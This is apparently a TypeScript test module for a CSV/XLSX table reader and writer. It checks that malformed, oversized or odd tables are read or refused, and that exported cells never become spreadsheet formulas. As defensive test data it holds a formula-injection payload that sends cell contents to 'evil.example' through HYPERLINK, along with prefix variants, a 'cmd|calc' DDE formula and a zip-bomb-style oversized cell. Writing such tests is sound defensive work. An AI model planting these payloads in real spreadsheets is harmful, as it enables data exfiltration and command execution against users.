import { parse } from 'csv-parse/sync';
import { writeCsv, type CellOut } from '../../src/formats/csv/write-csv.js';
import { writeXlsx } from '../../src/formats/xlsx/write-xlsx.js';
import { Problem } from '../../src/shared/problem.js';
import { aBook, collected, endless, inPieces, readAll } from '../formats/a-table.js';
import { partsOf } from './unzipped.js';
import { Trial, type Outcome, type Undertaking } from './promise.js';

export const tablesRead: Undertaking = {
  id: 'H7',
  promise: 'A table that people send is read as it stands or refused by name, however long, wide, broken or odd it is',
  try: () => tryTables(),
};

export const noFormulas: Undertaking = {
  id: 'H12',
  promise: 'No spreadsheet takes words of people in a list for a formula, and numbers stay numbers',
  try: () => tryFormulas(),
};

const MEBIBYTE = 1_048_576;
const PIECE = 65_536;
const MOST_GROWN = 150 * MEBIBYTE;
const HEADER = '<row r="1"><c r="A1" t="str"><v>name</v></c><c r="B1" t="str"><v>city</v></c></row>';

/** `most` is how long the longest files are; they are given up long before that. */
export async function tryTables(most = 1_024 * MEBIBYTE): Promise<Outcome> {
  const trial = new Trial();
  for (const [what, start, sign] of [
    ['one line', 'name;city\n', 'x'],
    ['quotes never closed', 'name;city\nA;"', 'x\n'],
    ['columns without end', 'name;city\n', ';'],
    ['a header without end', '', 'x'],
    ['nothing but zeros', 'name;city\n', '\0'],
  ] as const) {
    const before = process.memoryUsage().rss;
    const code = await codeOf(readAll(endless(start, Buffer.alloc(PIECE, sign), most / PIECE)));
    trial.attempt(
      code !== 'table.rowTooLong' && `${what}: ${code}`,
      process.memoryUsage().rss - before > MOST_GROWN && `${what}: more and more is held`,
    );
  }
  const wide = Array.from({ length: 10_000 }, (_, at) => `k${at}`).join(';');
  trial.attempt((await codeOf(readAll(inPieces(`${wide}\n`)))) !== 'table.tooManyColumns' && '10,000 columns are read');
  await readings(trial);
  await books(trial);
  return trial;
}

/** Tables that are odd and right: what is read must be what stands there. */
async function readings(trial: Trial): Promise<void> {
  const wanted = JSON.stringify([['Åbo; "Ö"', 'Sjöby', '1,5']]);
  const quoted = '"Åbo; ""Ö"""';
  for (const [what, text, encoding] of [
    ['semicolons', `name;city;amount\n${quoted};Sjöby;1,5\n`, 'utf8'],
    ['tabs', `name\tcity\tamount\n${quoted}\tSjöby\t1,5\n`, 'utf8'],
    ['commas', `name,city,amount\n${quoted},Sjöby,"1,5"\n`, 'utf8'],
    ['old line ends', `name;city;amount\r${quoted};Sjöby;1,5\r`, 'utf8'],
    ['mixed line ends', `name;city;amount\r\n${quoted};Sjöby;1,5\n\r\n`, 'utf8'],
    ['a byte order mark', `\uFEFFname;city;amount\n${quoted};Sjöby;1,5`, 'utf8'],
    ['Windows letters', `name;city;amount\n${quoted};Sjöby;1,5\n`, 'latin1'],
    ['columns in another order', `amount;name;city\n1,5;${quoted};Sjöby\n`, 'utf8'],
  ] as const) {
    const bytes = Buffer.from(text, encoding);
    for (const length of [1, 7, PIECE]) {
      const rows = (await readAll(inPieces(bytes, length)).catch(() => undefined))?.rows ?? [];
      const read = JSON.stringify(rows.map(({ name, city, amount }) => [name, city, amount]));
      trial.attempt(read !== wanted && `${what} in pieces of ${length}: ${read}`);
    }
  }
}

/** Excel: a formula is its last value or its words, a day is a day in both systems, a bomb is refused. */
async function books(trial: Trial): Promise<void> {
  const cell = async (inner: string, date1904 = false): Promise<string | undefined> =>
    (await readAll(inPieces(aBook({ rows: `${HEADER}<row r="2">${inner}</row>`, date1904 })))).rows[0]?.name;
  for (const [what, got, wanted] of [
    ['a formula with a value', await cell('<c r="A2"><f>1+1</f><v>2</v></c>'), '2'],
    ['a formula without one', await cell('<c r="A2"><f>cmd|calc!A0</f></c>'), '=cmd|calc!A0'],
    ['a day since 1900', await cell('<c r="A2" s="1"><v>45351</v></c>'), '2024-02-29'],
    ['a day since 1904', await cell('<c r="A2" s="1"><v>43889</v></c>', true), '2024-02-29'],
  ] as const)
    trial.attempt(got !== wanted && `${what}: ${got}`);
  for (const [what, bytes, code] of [
    [
      '200 MB of one cell',
      aBook({ rows: `${HEADER}<row r="2"><c r="A2" t="str"><v>${'x'.repeat(200 * MEBIBYTE)}</v></c></row>` }),
      'file.unpacksTooLarge',
    ],
    ['entities', aBook({ before: '<!DOCTYPE x [<!ENTITY a "b">]>', rows: HEADER }), 'file.damaged'],
    [
      'a column far out',
      aBook({ rows: HEADER.replace('</row>', '<c r="XFD1"><v>1</v></c></row>') }),
      'table.tooManyColumns',
    ],
    [
      'a row far down',
      aBook({ rows: `${HEADER}<row r="1048576"><c r="A1048576"><v>1</v></c></row>` }),
      'table.tooManyRows',
    ],
  ] as const) {
    const got = await codeOf(readAll(inPieces(bytes)));
    trial.attempt(got !== code && `${what}: ${got}`);
  }
}

/** The code of a refusal; `read` when there was none, and the words of anything that is no refusal. */
async function codeOf(reading: Promise<unknown>): Promise<string> {
  try {
    await reading;
    return 'read';
  } catch (error) {
    return error instanceof Problem ? error.code : String(error);
  }
}

const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\0=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '  +',
  '"=',
  "'=",
  '\n=',
  '\u00A0=',
  '\uFEFF=',
];
const FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"Klicka")';

/** What a spreadsheet sees as the first sign that counts. */
const isFormula = (cell: string): boolean => /^[\s\uFEFF"\0]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell);

export async function tryFormulas(write: typeof writeCsv = writeCsv): Promise<Outcome> {
  const trial = new Trial();
  const rows: CellOut[][] = BEGINNINGS.map((start) => [`${start}${FORMULA}`, -12.5, 'Sjöby']);
  const text = (await collected(write(['=name', 'amount', 'city'], rows))).join('');
  const [header = [], ...read] = parse(text, { bom: true, delimiter: ';', relaxQuotes: true }) as string[][];
  trial.attempt(isFormula(header[0] ?? '') && `a header is a formula: ${header[0]}`);
  trial.attempt(read.length !== rows.length && `${read.length} rows of ${rows.length}`);
  for (const [at, [words = '', amount = '', city = '']] of read.entries()) {
    const from = rows[at]?.[0] as string;
    trial.attempt(
      isFormula(words) && `${JSON.stringify(from)} is a formula`,
      !words.endsWith(from) && `${JSON.stringify(from)} became ${JSON.stringify(words)}`,
      amount !== '-12,5' && `a number became ${amount}`,
      city !== 'Sjöby' && `words became ${city}`,
    );
  }
  const book = Buffer.concat(await collected(writeXlsx('Lista', ['=name', 'amount', 'city'], rows)));
  const sheet = (await partsOf(book)).get('xl/worksheets/sheet1.xml') ?? '';
  trial.attempt(
    /<f[ >]/.test(sheet) && 'the Excel file holds a formula',
    (sheet.match(/t="inlineStr"|t="s"/g) ?? []).length < 2 * rows.length &&
      'words in the Excel file are not typed as text',
    (sheet.match(/<v>-12\.5<\/v>/g) ?? []).length !== rows.length && 'numbers in the Excel file are not numbers',
  );
  return trial;
}
